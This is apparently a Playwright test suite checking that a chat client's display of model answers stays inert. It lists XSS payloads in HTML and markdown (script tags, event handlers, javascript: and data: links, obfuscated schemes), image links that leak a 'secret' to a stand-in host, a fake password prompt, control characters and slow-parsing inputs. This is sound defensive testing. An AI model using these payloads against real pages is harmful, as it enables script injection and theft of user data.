"""What a model writes is text: nothing of it runs, and nothing of it makes a request.

At its end each test asserts that no request left for another host, that the policy had nothing
to refuse, and that the console is empty: ``visit_to`` in conftest.py.
"""

import json

import pytest
from clients.browser.actions import chat
from playwright.sync_api import expect

pytestmark = pytest.mark.clients
EVIL = "http://127.0.0.1:9/steal"
MARKUP = [
    "<script>window.ran = 1</script>",
    f"<img src={EVIL} onerror='window.ran = 1'>",
    f"<svg onload='window.ran = 1'><use href='{EVIL}#x'/></svg>",
    f"<iframe src='{EVIL}' srcdoc='<script>parent.ran = 1</script>'></iframe>",
    f"<link rel=stylesheet href={EVIL}><style>@import '{EVIL}';</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}'>",
    f"<form action={EVIL}><button>Send</button></form><video src={EVIL} autoplay>",
    "</div></article></main><h1>Outside</h1>",
    "<dialog open>Your key has expired: <input type=password></dialog>",
]
MARKDOWN = [
    f"![a picture]({EVIL}?key=secret)",
    f"[![both]({EVIL})]({EVIL})",
    f"![by name][pic]\n\n[pic]: {EVIL}",
    "[run](javascript:window.ran=1) [run](JaVaScRiPt:window.ran=1)",
    "[run](java\tscript:window.ran=1) [run](&#106;avascript:window.ran=1)",
    "[run](data:text/html,<script>window.ran=1</script>) [run](vbscript:x) [run](blob:x)",
    "<javascript:window.ran=1> [run](//127.0.0.1:9/steal) [run](file:///etc/passwd)",
    "`<img src=x onerror='window.ran = 1'>`",
    "```html\n<script>window.ran = 1</script>\n```",
    '```"><script>window.ran=1</script>\ncode\n```',
    "| <img src=x onerror=window.ran=1> | b |\n|--|--|\n| <script>window.ran=1</script> | c |",
    "# <img src=x onerror=window.ran=1>\n\n> <script>window.ran=1</script>",
    "$\\href{javascript:window.ran=1}{x}$ {{constructor.constructor('window.ran=1')()}}",
    '[__proto__](https://example.org/" onmouseover="window.ran=1)',
]
CONTROLS = (
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 a\u202egnp.exe\u2066 \x00 \x08 \u200b b\ufeff\r\nc"
)
# Texts that make careless expressions or parsers slow, or overflow their stack.
SLOW = {
    "a line of 300,000 letters": "x" * 300_000,
    "10,000 lines": "".join(f"line {i} of many\n" for i in range(10_000)),
    "10,000 list items": "".join(f"- item {i}\n" for i in range(10_000)),
    "deep lists": "".join(f"{'  ' * i}- deep\n" for i in range(300)),
    "deep quotes": ">" * 5_000 + " deep",
    "brackets": "[" * 50_000,
    "links that never end": "[a](" * 10_000,
    "stars": "*a " * 20_000,
    "emphasis": "**a*_b" * 10_000,
    "ticks": "".join("`" * (i % 9) + "a" for i in range(20_000)),
    "fences": "```\n~~~\n" * 5_000,
    "a wide table": f"{'|a' * 3_000}|\n{'|-' * 3_000}|\n{'|b' * 3_000}|",
    "addresses": "https://" * 10_000,
    "backslashes": "\\" * 50_000,
}

WHOLE = ["a line of 300,000 letters", "10,000 lines", "brackets", "links that never end"]


@pytest.fixture(autouse=True)
def _large_steps(scripted):
    scripted.engine.step = 4_096


def assert_harmless(visit) -> None:
    page = visit.page
    assert page.evaluate("window.ran") is None
    assert page.url.startswith(visit.url)
    tags = "script, img, iframe, object, embed, video, audio, link, style, meta, base, form"
    own = "#log article :is(script, img, iframe, object, embed, video, svg, style, form, input)"
    assert page.locator(own).count() == 0
    assert page.locator(f"#log :is({tags})").count() == 0
    bad = """[...document.querySelectorAll('#log *')].flatMap(one =>
        [...one.attributes].filter(a => /^on|^style$|^src/.test(a.name) ||
            (a.name === 'href' && !/^https?:\\/\\//.test(a.value))).map(a => one.outerHTML))"""
    assert page.evaluate(bad) == []


def test_answers_do_nothing(visit, scripted):
    for text in MARKUP + MARKDOWN:
        scripted.engine.answer = text
        answer = chat(visit, "Hi")
        assert_harmless(visit)
        for link in answer.get_by_role("link").all():
            assert "noopener" in link.get_attribute("rel")
            assert link.get_attribute("href") in link.evaluate(
                "one => one.parentNode.innerText"
            )
        visit.page.get_by_role("button", name="Clear").click()


def test_reasoning_question_calls_and_names_do_nothing(visit, scripted):
    text = "\n".join(MARKUP)
    tool = {"type": "function", "function": {"name": "look", "parameters": {"type": "object"}}}
    visit.page.get_by_text("System prompt, parameters, tools").click()
    visit.page.get_by_label("Tools (JSON").fill(json.dumps([tool]))
    call = {"name": "look", "arguments": {text: text}}
    thought = text.replace("<", "< ")  # no end of the thinking
    scripted.engine.answer = (
        f"<think>{thought}</think>So:\n<tool_call>\n{json.dumps(call)}\n</tool_call>"
    )
    answer = chat(visit, text)
    expect(answer).to_contain_text("Calls look")
    assert visit.page.evaluate("window.ran") is None
    answer.get_by_label("Result of look").fill(text)
    scripted.engine.answer = "Done."
    answer.get_by_role("button", name="Send results").click()
    expect(visit.page.get_by_role("article").last).to_contain_text("Done.")
    assert_harmless(visit)


def test_pictures_are_named_and_not_fetched(visit, scripted):
    scripted.engine.answer = f"![a cat]({EVIL}?q=secret) and text"
    answer = chat(visit, "Hi")
    expect(answer).to_contain_text("image not shown: a cat")
    expect(answer).to_contain_text("and text")


def test_controls_are_shown_as_signs(visit, scripted):
    scripted.engine.answer = f"{CONTROLS}\n\n```\n{CONTROLS}\n```\n"
    answer = chat(visit, "Hi")
    text = answer.inner_text()
    assert not {"\x1b", "\u202e", "\u2066", "\x00", "\x07"} & set(text)
    assert "red" in text and "U+202e" in text


def test_right_to_left_text_stays_in_its_paragraph(visit, scripted):
    scripted.engine.answer = "שלום עולם\n\nplain text"
    answer = chat(visit, "Hi")
    facts = answer.locator("p").last  # the note below the answer
    direction = "one => getComputedStyle(one).direction"
    assert answer.get_by_text("שלום").evaluate(direction) == "rtl"
    assert answer.get_by_text("plain text").evaluate(direction) == "ltr"
    assert facts.evaluate(direction) == "ltr"


def test_large_answer_leaves_the_page_usable(visit, scripted):
    scripted.engine.answer = "".join(f"{i} of many\n" for i in range(10_000)) + "x" * 50_000
    answer = chat(visit, "Hi")
    expect(answer).to_contain_text("9999 of many")
    assert_harmless(visit)
    width = visit.page.evaluate("document.documentElement.scrollWidth - innerWidth")
    assert width <= 0
    visit.page.get_by_role("button", name="Clear").click()
    scripted.engine.answer = "Still here."
    expect(chat(visit, "And now")).to_contain_text("Still here.")


def test_no_text_is_slow_to_show(visit):
    """Half of it and then all of it, as it is drawn while it comes."""
    show = """async text => {
        const {showMarkdown} = await import("/page/markdown.js");
        const parent = document.createElement("div");
        document.getElementById("log").append(parent);
        parent.className = "markdown";
        const start = performance.now();
        for (const part of [text.slice(0, text.length / 2), text]) {
            showMarkdown(parent, part);
            parent.getBoundingClientRect();
        }
        const spent = performance.now() - start;
        const letters = parent.textContent.replace(/\\s/g, "").length;
        parent.remove();
        return [spent, letters];
    }"""
    for name, text in SLOW.items():
        milliseconds, letters = visit.page.evaluate(show, text)
        assert milliseconds < 10_000, name
        assert letters > 0, name
        if name in WHOLE:
            assert letters == len("".join(text.split())), name
